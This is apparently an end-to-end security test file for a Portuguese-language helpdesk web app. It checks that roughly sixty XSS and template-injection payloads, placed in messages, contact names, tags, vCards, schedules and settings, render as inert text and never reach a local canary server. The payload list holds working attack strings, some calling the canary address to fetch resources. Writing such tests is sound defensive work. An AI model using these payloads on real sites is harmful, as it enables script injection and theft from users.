import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { piecesOf } from '#web/components/message/message-marks.ts';
import {
  browserForThisFile,
  conversationWith,
  rowOf,
  shownMessages,
  showPending,
  signIn,
} from '../support/browsers/desk.ts';
import { phonesAt } from '../support/browsers/phones.ts';
import { type RunningServer, startServer } from '../support/browsers/running-server.ts';

const browser = browserForThisFile();
let server: RunningServer;
let canary: Server;
let bait: string;
let page: Page;
let ticketId: number;
/** What no text may bring about: a dialog, an error of the page, a report of the content policy, a call to the canary. */
const harm: string[] = [];

beforeAll(async () => {
  canary = createServer(({ url }, answer) => {
    harm.push(`The canary was called: ${url}`);
    answer.end();
  });
  await new Promise<void>((listening) => canary.listen(0, '127.0.0.1', listening));
  bait = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
  server = await startServer();
  page = await signIn(await browser.open(), server.url, 'admin@acme.test');
  page.on('dialog', async (dialog) => {
    harm.push(`A dialog: ${dialog.message()}`);
    await dialog.dismiss();
  });
  page.on('console', (message) => message.type() === 'error' && harm.push(message.text()));
  page.on('pageerror', (error) => harm.push(String(error)));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ blockedURI, violatedDirective }) =>
      console.error(`Blocked by the content policy: ${violatedDirective} ${blockedURI}`),
    );
  });
});
afterAll(async () => {
  canary?.close();
  await server?.remove();
});

/** Ways to make text act as a page, each with an address that tells. */
const attacks = (to: string): string[] => [
  `<script>fetch('${to}')</script>`,
  `<script src="${to}/a.js"></script>`,
  `<img src=x onerror="fetch('${to}')">`,
  `<img src="${to}/pixel.png">`,
  `<svg onload=alert(1)>`,
  `<svg><animate onbegin=alert(1) attributeName=x></svg>`,
  `<iframe src="${to}"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="${to}"></object>`,
  `<embed src="${to}">`,
  `<link rel=stylesheet href="${to}/a.css">`,
  `<style>@import '${to}/b.css';</style>`,
  `<base href="${to}/">`,
  `<meta http-equiv=refresh content="0;url=${to}">`,
  `<form action="${to}"><input autofocus onfocus=this.form.submit()>`,
  `<video src="${to}/v.mp4" autoplay></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<body onload=alert(1)>`,
  `<a href="javascript:alert(1)">toque aqui</a>`,
  `<math><mtext><img src=x onerror=alert(1)></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<template><script>alert(1)</script></template>`,
  `"><img src=x onerror=alert(1)>`,
  `' onmouseover='alert(1)`,
  `" autofocus onfocus="alert(1)" x="`,
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '[toque](javascript:alert(1))',
  `![foto](${to}/p.png)`,
  '**negrito** _itálico_ `code`',
  '*<b>negrito</b>*',
  '~<i>riscado</i>~',
  '```<script>alert(1)</script>```',
  '{{constructor.constructor("alert(1)")()}}',
  '{alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<ScRiPt >alert(1)</sCrIpT >',
  '<img/src=x/onerror=alert(1)>',
  '<x onclick=alert(1)>toque</x>',
  '<input type=image src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<isindex action=javascript:alert(1)>',
  `red;background:url(${to}/c.png)`,
  `url('${to}/d.png')`,
  'expression(alert(1))',
  '__proto__',
];

/** One that fits where few characters do. */
const short = '"><img src=x onerror=alert(1)>';
const named = `${short} Zé`;
const phone = '5511987650047';

/** As a message shows it: what stands between marks is drawn otherwise, and is text all the same. */
const withoutMarks = (text: string) =>
  piecesOf(text)
    .map((piece) => piece.text)
    .join('');

test('sixty attacks in messages are shown as they were typed, and do nothing (F47)', async () => {
  const phones = phonesAt(server.url);
  const connectionId =
    (await phones.lines()).find(({ status, companyId }) => status === 'CONNECTED' && companyId === 1)?.id ?? 0;
  const sender = { connectionId, from: phone, name: named };
  const texts = attacks(bait);
  expect(texts.length).toBeGreaterThanOrEqual(60);
  for (const body of texts) await phones.write({ ...sender, body });
  await phones.write({ ...sender, type: 'location', body: `${bait}/map.png|javascript:alert(1)|Praça ${short}` });
  ({ ticketId } = await phones.write({ ...sender, type: 'vcard', body: vcard }));
  await phones.write({
    ...sender,
    type: 'document',
    mediaUrl: `data:text/html,${encodeURIComponent(`<script>fetch('${bait}')</script>`)}`,
    mediaName: '<img src=x onerror=alert(1)>.html',
  });

  await showPending(page);
  await rowOf(page, named).getByRole('button').first().click();
  const shown = plain((await shownMessages(page, named)).join('\n'));
  for (const text of [...texts, `Praça ${short}`, `${short} Vizinha`])
    expect(shown).toContain(plain(withoutMarks(text)));
  expect(await unsafeLinks()).toEqual([]);
  await showDocument();
  expect(harm).toEqual([]);
});

test('attacks as names, colours, notes, replies and errors do nothing on any screen (F47)', async () => {
  await spreadAttacks();
  for (const path of screens) {
    await page.goto(`${server.url}${path}`);
    await page.getByText(short).filter({ visible: true }).first().waitFor();
    expect([path, await unsafeLinks()]).toEqual([path, []]);
    expect([path, harm]).toEqual([path, []]);
  }
  await page.goto(`${server.url}/tickets?tab=search`);
  await page.getByRole('searchbox').fill('onerror');
  await rowOf(page, named).first().getByRole('button').first().click();

  await page.route(/\/api\/tickets\/\d+$/, (route) =>
    route.request().method() === 'PUT' ? route.fulfill({ status: 400, json: { error: short } }) : route.fallback(),
  );
  await page.getByRole('button', { name: 'Resolver' }).click();
  await page.getByRole('alert').getByText(short).waitFor();
  // The browser itself notes the answer that was made up.
  expect(harm.filter((each) => !/status of 400/.test(each))).toEqual([]);
});

test('sixty attacks as a scheduled message, as settings and as words out of hours do nothing, either (F47)', async () => {
  harm.length = 0;
  const { contactId } = await call('GET', `/tickets/${ticketId}`);
  const sendAt = '2030-01-15T15:00:00.000Z';
  const { id } = await call('POST', '/schedules', { body: bodyOfAll(), contactId, ticketId, sendAt });
  await call('PUT', '/settings/scheduleType', { value: 'company' });

  await page.goto(`${server.url}/schedules?view=day&date=2030-01-15`);
  const event = page.getByRole('region', { name: 'Calendário' }).getByRole('listitem').filter({ hasText: named });
  await expectAll(() => event.innerText());
  await page.goto(`${server.url}/schedules?contactId=${contactId}`);
  await expectAll(() => page.getByRole('dialog').getByRole('listitem').innerText());
  await page.goto(`${server.url}/schedules?edit=${id}`);
  await expectAll(() => page.getByRole('dialog').getByRole('textbox', { name: 'Mensagem' }).inputValue());

  await page.goto(`${server.url}/settings`);
  await page.goto(`${server.url}/settings?tab=hours`);
  await expectAll(() => page.getByRole('listitem').filter({ hasText: short }).first().innerText());
});

const bodyOfAll = () => attacks(bait).join('\n');

/** Waits until every attack is shown as it was typed, and looks what they did. */
const expectAll = async (read: () => Promise<string>) => {
  const missing = async () => {
    const shown = plain(await read());
    return attacks(bait).filter((text) => !shown.includes(plain(text)));
  };
  await expect.poll(missing).toEqual([]);
  expect(await unsafeLinks()).toEqual([]);
  expect(harm).toEqual([]);
};

const screens = ['/contacts', '/tags', '/quick-messages', '/queues', '/users', '/connections', '/kanban', '/tickets'];

const vcard = [
  'BEGIN:VCARD',
  'VERSION:3.0',
  `FN:${short} Vizinha`,
  'TEL;waid=5511987650048:+55 11 98765-0048',
  'EMAIL:javascript:alert(1)',
  'URL:javascript:alert(1)',
  `ORG:${short}`,
  'END:VCARD',
].join('\n');

/** Bold loses its asterisks, and a tab is a space to those who read. */
const plain = (text: string) => text.replace(/[*\s]+/g, '');

const unsafeLinks = () =>
  page
    .locator('a[href], area[href], form[action], iframe[src]')
    .evaluateAll((elements) =>
      elements
        .map((element) => element.getAttribute('href') ?? element.getAttribute('action') ?? element.getAttribute('src'))
        .filter((address) => !/^(https?:|mailto:|tel:|blob:|\/(?!\/)|#)/.test(address ?? '')),
    );

const showDocument = async () => {
  const region = conversationWith(page, named);
  await region.evaluate((scroller) => scroller.scrollTo(0, scroller.scrollHeight));
  await region.getByText('.html').first().waitFor();
};

/** Everything that has a name gets one that attacks, over the contract's own calls. */
const spreadAttacks = async () => {
  const { id, contactId } = await call('GET', `/tickets/${ticketId}`);
  await call('POST', '/tags', { name: short, color: '#EF6C00', kanban: 1 });
  const tag = await call('POST', '/tags', { name: `${short} 2`, color: 'red;x:y', kanban: 0 });
  await call('POST', '/tags/sync', { ticketId: id, tags: [{ id: tag.id }] });
  await call('POST', '/quick-messages', { shortcode: short, message: short, geral: true, status: true });
  await call('POST', '/queue', {
    name: short,
    color: '#2E7D32',
    greetingMessage: short,
    outOfHoursMessage: bodyOfAll(),
  });
  await call('POST', '/ticket-notes', { note: short, ticketId: id, contactId });
  const css = `red;background:url(${bait}/e.png)`;
  await call('PUT', `/contacts/${contactId}`, { extraInfo: [{ name: short, value: css }] });
  await call('POST', '/users', {
    name: short,
    email: 'zelador@acme.test',
    password: 'recado-recado',
    profile: 'user',
    queueIds: [],
  });
  await call('POST', '/whatsapp', { name: short, isDefault: false, queueIds: [] });
};

/** As whoever is signed in. */
const call = (method: string, path: string, body?: object) =>
  page.evaluate(
    async ({ method, path, body }) => {
      const { token } = JSON.parse(localStorage.getItem('session') ?? '{}');
      const answer = await fetch(`/api${path}`, {
        method,
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        ...(body && { body: JSON.stringify(body) }),
      });
      if (!answer.ok) throw new Error(`${method} ${path}: ${answer.status} ${await answer.text()}`);
      return answer.json();
    },
    { method, path, body },
  );
